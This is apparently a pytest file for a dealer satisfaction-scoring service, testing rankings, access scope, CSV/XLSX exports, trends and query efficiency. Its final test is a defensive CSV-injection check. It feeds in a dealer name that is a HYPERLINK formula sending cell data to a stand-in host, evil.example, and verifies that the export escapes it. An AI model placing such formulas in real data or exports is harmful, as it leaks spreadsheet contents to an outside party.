"""The OEM ranking, averages, small samples, scope, trend and exports; a 3,000-dealer read never scans responses."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import event, insert

from csi_shared.events import DealerRef
from scoring.method import FACTORS
from scoring.models import Dealer, DealerPeriod
from scoring.schemas import Ranking

from .conftest import Scoring, dealer_ref, response

Q = "service_quality"
NO_FACTORS = dict.fromkeys(FACTORS)


async def _network(s: Scoring) -> None:
    east_a, east_b, west, tiny = dealer_ref("D001"), dealer_ref("D002"), dealer_ref("D003", "west"), dealer_ref("D004")
    for n, score in enumerate([10, 10]):
        await s.feed(response(f"a{n}", {"sq_first_time": (Q, score)}, dealer=east_a))
    for n, score in enumerate([4, 6]):
        await s.feed(response(f"b{n}", {"sq_first_time": (Q, score)}, dealer=east_b))
    for n, score in enumerate([7, 9]):
        await s.feed(response(f"c{n}", {"sq_first_time": (Q, score)}, dealer=west))
    await s.feed(response("d0", {"sq_first_time": (Q, 10)}, dealer=tiny))  # one response: under the minimum sample


async def test_the_ranking_keeps_small_samples_apart(scoring: Scoring) -> None:
    await _network(scoring)
    body = (
        await scoring.client.get("/v1/csi", params={"period": "2026-11"}, headers=scoring.auth("oem_analyst"))
    ).json()
    assert [(e["dealer_code"], e["rank"], e["index"], e["percentile"]) for e in body["ranked"]] == [
        ("D001", 1, 1000.0, 100.0), ("D003", 2, 777.8, 50.0), ("D002", 3, 444.4, 0.0)
    ]  # fmt: skip
    assert [e["dealer_code"] for e in body["small_sample"]] == ["D004"]
    # Built from plain rows and sent unvalidated for speed: the declared model must still describe it exactly.
    assert Ranking.model_validate(body).model_dump(mode="json") == body
    # Every factor is listed; those without answers are null, and each index agrees with the dealer's card.
    d003 = body["ranked"][1]
    assert d003["factors"] == {**dict.fromkeys(FACTORS), Q: 777.8}
    assert d003["factors"] == {f: v["index"] for f, v in (await scoring.card("D003")).json()["factors"].items()}
    assert body["national_average"] == round((1000 + 7000 / 9 + 4000 / 9) / 3, 1)
    assert body["regional_averages"] == {"east": round((1000 + 4000 / 9) / 2, 1), "west": 777.8}

    east = (
        await scoring.client.get(
            "/v1/csi", params={"period": "2026-11", "region": "east"}, headers=scoring.auth("admin")
        )
    ).json()
    assert [(e["dealer_code"], e["rank"]) for e in east["ranked"]] == [("D001", 1), ("D002", 2)]
    assert east["national_average"] == body["national_average"]


async def test_ranking_scope(scoring: Scoring) -> None:
    await _network(scoring)
    regional = await scoring.client.get(
        "/v1/csi", params={"period": "2026-11"}, headers=scoring.auth("oem_analyst", region="west")
    )
    assert [e["dealer_code"] for e in regional.json()["ranked"]] == ["D003"]
    other = await scoring.client.get(
        "/v1/csi", params={"period": "2026-11", "region": "east"}, headers=scoring.auth("oem_analyst", region="west")
    )
    assert other.status_code == 403
    dealer_user = await scoring.client.get(
        "/v1/csi", params={"period": "2026-11"}, headers=scoring.auth("general_manager", dealers=["D001"])
    )
    assert dealer_user.status_code == 403


async def test_exports(scoring: Scoring) -> None:
    await _network(scoring)
    as_csv = await scoring.client.get("/v1/csi/export", params={"period": "2026-11"}, headers=scoring.auth("admin"))
    rows = list(csv.DictReader(io.StringIO(as_csv.text.removeprefix("\ufeff"))))
    assert [(r["rank"], r["dealer_code"], r["index"], r["small_sample"]) for r in rows] == [
        ("1", "D001", "1000.0", "False"), ("2", "D003", "777.8", "False"), ("3", "D002", "444.4", "False"), ("", "D004", "1000.0", "True")
    ]  # fmt: skip
    as_xlsx = await scoring.client.get(
        "/v1/csi/export", params={"period": "2026-11", "format": "xlsx"}, headers=scoring.auth("admin")
    )
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:3] == ("rank", "percentile", "dealer_code") and values[1][2] == "D001" and values[1][5] == 1000.0
    assert len(values) == 5
    # Excel on a zh-CN Windows: UTF-8 with a byte-order mark, and the column names in Chinese when asked.
    assert as_csv.content.startswith(b"\xef\xbb\xbf")
    params = {"period": "2026-11", "lang": "zh-CN"}
    zh = await scoring.client.get("/v1/csi/export", params=params, headers=scoring.auth("admin"))
    assert next(csv.reader(io.StringIO(zh.text.removeprefix("\ufeff"))))[:3] == ["排名", "百分位", "经销商代码"]


async def test_trend(scoring: Scoring) -> None:
    await scoring.feed(
        response("sep", {"sq_first_time": (Q, 7)}, period="2026-09", submitted_at="2026-09-20T10:00:00+08:00")
    )
    await scoring.feed(response("nov", {"sq_first_time": (Q, 9)}))
    body = (await scoring.client.get("/v1/dealers/D001/csi/trend", params={"from": "2026-09", "to": "2026-11"},
                                     headers=scoring.auth("service_manager", dealers=["D001"]))).json()  # fmt: skip
    assert [(t["period"], t["index"], t["status"]) for t in body["trend"]] == [
        ("2026-09", 666.7, "final"), ("2026-10", None, "final"), ("2026-11", 888.9, "provisional")
    ]  # fmt: skip


async def test_priorities_come_from_what_moves_overall_satisfaction(scoring: Scoring) -> None:
    # Across the region, the waiting time tracks overall satisfaction closely; the lounge does not at all.
    for n, (wait, lounge, overall) in enumerate([(2, 9, 2), (5, 3, 5), (8, 9, 8), (6, 5, 6)]):
        await scoring.feed(response(f"p{n}", {"si_reception_wait": ("service_initiation", wait), "sf_lounge": ("service_facility", lounge)},
                                    dealer=dealer_ref(f"D{n % 2 + 1:03d}"), overall=overall))  # fmt: skip
    assert await scoring.app.state.jobs.refresh_importance() == 1
    card = (await scoring.card()).json()
    assert card["priorities"] == ["si_reception_wait"]


async def test_a_priority_is_weak_against_the_region_and_never_a_strength(scoring: Scoring) -> None:
    # One region (east): D001 answers 9 and 10 on first-time fix, D002 answers 2 and 5; overall moves with it, so the
    # item is important (correlation 1). The region's mean is (9 + 10 + 2 + 5) / 4 = 6.5.
    for n, (dealer, score) in enumerate([("D001", 9), ("D001", 10), ("D002", 2), ("D002", 5)]):
        await scoring.feed(response(f"w{n}", {"sq_first_time": ("service_quality", score)}, dealer=dealer_ref(dealer),
                                    overall=score))  # fmt: skip
    assert await scoring.app.state.jobs.refresh_importance() == 1
    strong = (await scoring.card("D001")).json()
    # 9.5 is above the region's 6.5 and nobody is dissatisfied: not weak, so no priority at all (a valid answer),
    # and the item is a strength (2 answers, both very satisfied), never both.
    assert strong["priorities"] == [] and strong["strengths"] == ["sq_first_time"]
    weak = (await scoring.card("D002")).json()
    assert weak["priorities"] == ["sq_first_time"] and weak["strengths"] == []


async def test_a_dealer_sees_where_it_stands_and_nobody_elses_figures(scoring: Scoring) -> None:
    # Quality only, so each index is its quality index: D001 (east) 9 and 9 -> 888.9, D002 (east) 10 and 10 -> 1000,
    # D003 (west) 7 and 7 -> 666.7, D004 (west) one answer of 4 -> a small sample (2 in these tests), never ranked.
    for code, region, scores in [("D001", "east", [9, 9]), ("D002", "east", [10, 10]), ("D003", "west", [7, 7]),
                                 ("D004", "west", [4])]:  # fmt: skip
        for n, score in enumerate(scores):
            await scoring.feed(response(f"{code}-{n}", {"sq_first_time": (Q, score)}, dealer=dealer_ref(code, region)))
    answer = await scoring.card("D001")  # a service manager of D001: a dealer role
    assert answer.status_code == 200, answer.text
    standing = answer.json()["standing"]
    assert (standing["ranked"], standing["rank_in_region"], standing["rank_in_nation"]) == (True, 2, 2)
    # Region: (888.89 + 1000) / 2 = 944.4 over 2 dealers; nation: (888.89 + 1000 + 666.67) / 3 = 851.9 over 3.
    assert standing["region"] == {"dealers": 2, "index": 944.4, "factors": {**NO_FACTORS, Q: 944.4}}
    assert standing["nation"] == {"dealers": 3, "index": 851.9, "factors": {**NO_FACTORS, Q: 851.9}}
    # No other dealer's code, name or own index anywhere in the card.
    for other in ("D002", "D003", "D004", "1000.0", "666.7"):
        assert other not in answer.text
    small = (await scoring.card("D004")).json()["standing"]
    assert (small["ranked"], small["rank_in_region"], small["rank_in_nation"]) == (False, None, None)
    assert small["region"] == {"dealers": 1, "index": 666.7, "factors": {**NO_FACTORS, Q: 666.7}}
    best = (await scoring.card("D002")).json()["standing"]
    assert (best["rank_in_region"], best["rank_in_nation"]) == (1, 1)


async def test_a_ranking_of_3000_dealers_reads_only_the_aggregates(scoring: Scoring) -> None:
    async with scoring.app.state.runtime.sessions() as session, session.begin():
        await session.execute(
            insert(Dealer),
            [
                {"code": f"X{n:04d}", "name": f"Dealer {n}", "region": f"r{n % 7}", "time_zone": "Asia/Shanghai"}
                for n in range(3000)
            ],
        )
        await session.execute(insert(DealerPeriod), [
            {"dealer_code": f"X{n:04d}", "period": "2026-11", "responses": 40, "csi_sum": 0.0, "csi_sumsq": 0.0, "overall_n": 0,
             "overall_sum": 0.0, "loyalty_n": 0, "loyalty_top": 0, "ros": 100, "complaints": 1, "csi_index": 500 + n / 10,
             "interval_low": 480.0, "interval_high": 520.0, "factors": {Q: {"index": 600.0, "responses": 40}}, "dirty": False}
            for n in range(3000)
        ])  # fmt: skip
    statements: list[str] = []

    def capture(_conn, _cursor, statement, *_args) -> None:  # type: ignore[no-untyped-def]
        statements.append(statement.lower())

    engine = scoring.app.state.runtime.engine.sync_engine
    event.listen(engine, "before_cursor_execute", capture)
    try:
        body = (await scoring.client.get("/v1/csi", params={"period": "2026-11"}, headers=scoring.auth("admin"))).json()
    finally:
        event.remove(engine, "before_cursor_execute", capture)
    assert len(body["ranked"]) == 3000 and body["ranked"][0]["dealer_code"] == "X2999"
    Ranking.model_validate(body)
    queries = [s for s in statements if s.lstrip().startswith("select")]
    assert len(queries) == 1
    assert "dealer_periods" in queries[0]
    assert not any(t in s for s in statements for t in ("responses_received", "item_aggregates", "factor_aggregates"))


async def test_a_dealer_name_never_becomes_a_formula_in_an_export(scoring: Scoring) -> None:
    # OWASP CSV injection: a name a spreadsheet would run is written as text, in CSV and XLSX alike.
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile = DealerRef(dealer_code="D009", name=name, region="east", time_zone="Asia/Shanghai")
    for n in range(2):
        await scoring.feed(response(f"h{n}", {"sq_first_time": (Q, 9)}, dealer=hostile))
    params = {"period": "2026-11"}
    as_csv = await scoring.client.get("/v1/csi/export", params=params, headers=scoring.auth("admin"))
    (row,) = list(csv.DictReader(io.StringIO(as_csv.text.removeprefix("\ufeff"))))
    assert row["dealer_name"] == "'" + name
    as_xlsx = await scoring.client.get(
        "/v1/csi/export", params={**params, "format": "xlsx"}, headers=scoring.auth("admin")
    )
    cell = load_workbook(io.BytesIO(as_xlsx.content)).active["D2"]
    assert (cell.data_type, cell.value) == ("s", "'" + name)
